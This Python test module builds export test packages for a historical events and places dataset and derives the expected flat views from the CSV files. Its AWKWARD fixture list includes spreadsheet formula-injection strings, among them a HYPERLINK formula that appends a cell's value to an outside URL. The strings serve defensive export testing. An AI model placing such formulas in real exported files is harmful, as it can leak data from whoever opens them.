"""The packages that every export is tried on, and what their CSV files say, read by Python alone."""

import csv
from collections.abc import Callable
from pathlib import Path
from typing import Any

from scripts.package import Package, Table
from tests.conftest import PROJECT, Copy, minimal_package

CONVERSIONS: dict[str, Callable[[str], Any]] = {"integer": int, "number": float, "boolean": lambda text: text == "true"}
# Texts that some program between here and a reader may mistake for something else.
AWKWARD = {
    "formula": '=HYPERLINK("https://example.org/?"&A1,"open")',
    "sum": "+1+2",
    "minus": "-2+3|x",
    "at": "@SUM(A1)",
    "wide": "＝1+1",
    "marked": "'=1+1",
    "twice": "''=1+1",
    "quote": "'Atarib",
    "number": "-1.5",
    "long_number": "12345678901234567890",
    "quotes": 'He said "no, never"; then left',
    "separators": "a,b;c|d\\e/f",
    "arabic": "خربة الجوز (قرية)",
    "mixed": "Tu`um طعوم 2012",
    "emoji": "🕊️ 👩‍👩‍👧 𝒳",
    "markup": "<b>&amp;</b> _x0041_ ${x} {{x}} %s",
    "link": "https://example.org/a?b=c#d",
    "mail": "mailto:nobody@example.org",
    "word": "NULL",
    "truth": "TRUE",
    "day": "2012-04-03",
    "error": "#N/A",
    "long": "word " * 6_000 + "end",
    "longer_than_a_cell_of_excel": "🕊" * 20_000,
}


def awkward_package(folder: Path) -> Copy:
    """The minimal package with awkward texts as titles of events, a name, a place without a point, and numbers below zero."""
    package = minimal_package(folder)
    event = package.rows("events")[1]
    events = [event | {"event_id": f"awkward-{name.replace('_', '-')}", "title": text, "note": text} for name, text in AWKWARD.items()]
    package.write("events", sorted(package.rows("events") + events, key=lambda row: row["event_id"]))
    package.edit("places", "harbour", latitude="-0.0000001", longitude="-120.5", name=AWKWARD["quotes"])
    package.edit("places", "province", latitude="", longitude="", coordinate_uncertainty_m="", coordinate_type="", coordinate_source_id="")
    names = [{"place_id": "harbour", "name": name, "language": "ar", "source_id": "atlas"} for name in (AWKWARD["arabic"], "ميناء")]
    package.write("place_names", sorted(package.rows("place_names") + names, key=lambda row: (row["place_id"], row["name"])))
    package.describe()
    return package


PACKAGES: dict[str, Callable[[Path], Path]] = {
    "real": lambda folder: PROJECT / "datapackage.json",
    "minimal": lambda folder: minimal_package(folder).descriptor,
    "awkward": lambda folder: awkward_package(folder).descriptor,
}
Rows = list[dict[str, Any]]


def cells(table: Table) -> Rows:
    """The rows of the CSV file, in its order: numbers as numbers, everything else as text, None where a cell is empty."""
    kinds = {field.name: CONVERSIONS.get(field.type, str) for field in table.schema.fields}
    with table.file.open(encoding="utf-8", newline="") as stream:
        return [{name: kinds[name](text) if text else None for name, text in row.items()} for row in csv.DictReader(stream)]


def tables(package: Package) -> dict[str, Rows]:
    """The rows of all tables."""
    return {name: cells(table) for name, table in package.tables.items()}


def by_key(rows: Rows, key: str) -> dict[Any, dict[str, Any]]:
    return {row[key]: row for row in rows}


def joined(names: list[str]) -> str | None:
    return "; ".join(sorted(set(names))) or None


def is_arabic(language: str) -> bool:
    return language == "ar" or language.startswith(("ar-Arab", "ar-S"))


def flat_places(package: Package) -> Rows:
    """What the view places_flat must give, worked out from the CSV files."""
    data = tables(package)
    places, sources = by_key(data["places"], "place_id"), by_key(data["sources"], "source_id")
    rows = []
    for place in data["places"]:
        names = [name for name in data["place_names"] if name["place_id"] == place["place_id"]]
        row = {
            "name": place["name"],
            "arabic_names": joined([name["name"] for name in names if is_arabic(name["language"])]),
            "other_names": joined([name["name"] for name in names if not is_arabic(name["language"]) and name["name"] != place["name"]]),
            "lies_in": places.get(place["parent_place_id"], {}).get("name"),
            "coordinate_source": sources.get(place["coordinate_source_id"], {}).get("title"),
        }
        rows.append({name: cell for name, cell in place.items() if name not in ("parent_place_id", "coordinate_source_id")} | row)
    return rows


def flat_events(package: Package) -> dict[tuple[str, str | None], dict[str, Any]]:
    """What the view events_flat must say, by event and place, in the columns that come straight from the CSV files."""
    data = tables(package)
    places = by_key(flat_places(package), "place_id")
    types, events = by_key(data["event_types"], "event_type"), by_key(data["events"], "event_id")
    units = by_key(data["units"], "unit_id")
    shared = ("arabic_names", "place_type", "latitude", "longitude", "coordinate_uncertainty_m", "coordinate_type")
    nowhere = {"place_id": None, "role": None, "control_after": None}
    rows = {}
    for event in data["events"]:
        own = [one for one in data["event_places"] if one["event_id"] == event["event_id"]] or [nowhere]
        acting = [one for one in data["event_units"] if one["event_id"] == event["event_id"]]
        told = [claim for claim in data["claims"] if claim["event_id"] == event["event_id"]]
        for one in own:
            place = places.get(one["place_id"], {})
            rows[event["event_id"], one["place_id"]] = (
                {name: cell for name, cell in event.items() if name != "parent_event_id"}
                | {"type_label": types[event["event_type"]]["label"], "place": place.get("name")}
                | {"part_of": events.get(event["parent_event_id"], {}).get("title")}
                | {name: place.get(name) for name in shared}
                | {name: one[name] for name in nowhere}
                | {"initiators": joined([units[unit["unit_id"]]["name"] for unit in acting if unit["role"] == "initiator"])}
                | {"targets": joined([units[unit["unit_id"]]["name"] for unit in acting if unit["role"] == "target"])}
                | {"claimants": joined([claim["claimant"] for claim in told if claim["stance"] == "supports"])}
            )
    return rows
